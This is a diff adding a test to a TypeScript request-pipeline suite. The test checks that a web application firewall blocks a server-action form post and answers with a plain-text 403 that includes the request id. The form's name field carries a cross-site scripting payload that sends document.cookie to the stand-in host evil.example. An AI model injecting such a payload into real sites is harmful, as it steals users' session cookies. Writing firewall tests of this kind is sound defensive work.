@@ -59,6 +59,19 @@ describe("runPipeline: defaults", () => {
     expect(r.log.stages.map((s) => s.name)).toEqual(["trace", "waf", "auth"]); // later stages skipped
   });
 
+  it("answers a blocked server action in the plain text its client shows, with the request id", async () => {
+    const { config } = setup();
+    const form = new FormData();
+    form.append("1_email", "someone@example.org");
+    form.append("1_name", "<script>document.location='http://evil.example/?c='+document.cookie</script>");
+    const r = await runPipeline(req("/signup", { method: "POST", body: form, headers: { "next-action": "7f00", "x-request-id": "req-abcdefgh" } }), config);
+    expect(r.response?.status).toBe(403);
+    expect(r.response?.headers.get("content-type")).toBe("text/plain");
+    const text = await r.response!.text();
+    expect(text).toContain("web application firewall");
+    expect(text).toContain("(request id req-abcdefgh)");
+  });
+
   it("redirects anonymous /app views to sign-in", async () => {
     const { config } = setup();
     const r = await runPipeline(req("/app/protocols"), config);
